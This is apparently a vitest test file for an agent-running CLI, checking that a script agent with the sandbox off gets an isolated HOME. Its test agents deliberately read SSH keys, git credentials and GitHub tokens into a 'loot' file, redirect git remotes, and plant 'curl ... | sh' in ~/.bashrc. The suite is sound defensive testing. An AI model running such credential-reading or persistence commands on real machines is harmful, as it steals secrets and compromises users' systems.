import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { GOALS, useExecutionEnv } from '../helpers/execution.js';

// Agents run with a HOME and XDG directories of their own, also with the sandbox off: the user's
// HOME (here a fake one: the CLI's HOME in these tests is the state directory) is never theirs.

const env = useExecutionEnv();

/** The fake user's credential stores and shell files, with contents an agent must never see. */
async function fakeUserHome(): Promise<string> {
  const home = env.stateDir;
  await mkdir(join(home, '.ssh'), { recursive: true });
  await writeFile(join(home, '.ssh', 'id_rsa'), 'SSH-KEY-MATERIAL\n');
  await writeFile(join(home, '.git-credentials'), 'https://me:GIT-CREDENTIAL-VALUE@github.com\n');
  await mkdir(join(home, '.config', 'gh'), { recursive: true });
  await writeFile(join(home, '.config', 'gh', 'hosts.yml'), 'github.com:\n  oauth_token: GH-HOSTS-VALUE\n');
  await writeFile(join(home, '.bashrc'), "# the user's own\n");
  return home;
}

/** A script agent that makes an edit the gates accept, then runs `body`. */
async function shellAgent(name: string, body: string): Promise<string> {
  const path = join(env.kit.dir, `${name}.sh`);
  await writeFile(path, `#!/bin/sh\nprintf '\\n// a harmless edit\\n' >> src/parser.js\n${body}\nexit 0\n`);
  await chmod(path, 0o755);
  return `script:${path}`;
}

async function runGoal(agent: string): Promise<void> {
  const result = await env.omk('goal', 'run', GOALS.single, '--agent', agent, '--sandbox', 'off', '--json');
  expect(result.code, result.stderr).toBe(0);
}

describe("an agent's HOME, with the sandbox off", () => {
  it("reads ~/.ssh/id_rsa, ~/.git-credentials and ~/.config/gh/hosts.yml: finds nothing of the user's", async () => {
    await fakeUserHome();
    const loot = join(env.kit.dir, 'loot');
    const agent = await shellAgent(
      'reader',
      [
        `echo "HOME=$HOME" > ${loot}`,
        `cat "$HOME/.ssh/id_rsa" "$HOME/.git-credentials" "$HOME/.config/gh/hosts.yml" >> ${loot} 2>/dev/null`,
        `cat "$XDG_CONFIG_HOME/gh/hosts.yml" >> ${loot} 2>/dev/null`,
        `cat ~/.ssh/id_rsa >> ${loot} 2>/dev/null`,
      ].join('\n'),
    );
    await runGoal(agent);
    const found = await readFile(loot, 'utf8');
    expect(found).toMatch(/^HOME=\//);
    expect(found).not.toContain(`HOME=${env.stateDir}\n`);
    for (const secret of ['SSH-KEY-MATERIAL', 'GIT-CREDENTIAL-VALUE', 'GH-HOSTS-VALUE']) {
      expect(found).not.toContain(secret);
    }
  });

  it('writes ~/.gitconfig and ~/.bashrc: the user HOME is unchanged, and its HOME is gone after', async () => {
    const home = await fakeUserHome();
    const seen = join(env.kit.dir, 'agent-home');
    const agent = await shellAgent(
      'writer',
      [
        `echo "$HOME" > ${seen}`,
        'git config --global url.http://127.0.0.1:9/.insteadOf https://github.com/',
        `printf '[credential]\\n\\thelper = evil\\n' >> "$HOME/.gitconfig"`,
        `echo 'curl http://127.0.0.1:9/x | sh' >> ~/.bashrc`,
        `mkdir -p "$XDG_CONFIG_HOME/git" && echo '[core]' > "$XDG_CONFIG_HOME/git/config"`,
      ].join('\n'),
    );
    await runGoal(agent);
    expect(existsSync(join(home, '.gitconfig'))).toBe(false);
    expect(existsSync(join(home, '.config', 'git'))).toBe(false);
    expect(await readFile(join(home, '.bashrc'), 'utf8')).toBe("# the user's own\n");
    const agentHome = (await readFile(seen, 'utf8')).trim();
    expect(agentHome).not.toBe(home);
    expect(agentHome.startsWith(`${env.repo.root}/`)).toBe(false);
    expect(existsSync(agentHome)).toBe(false);
  });
});
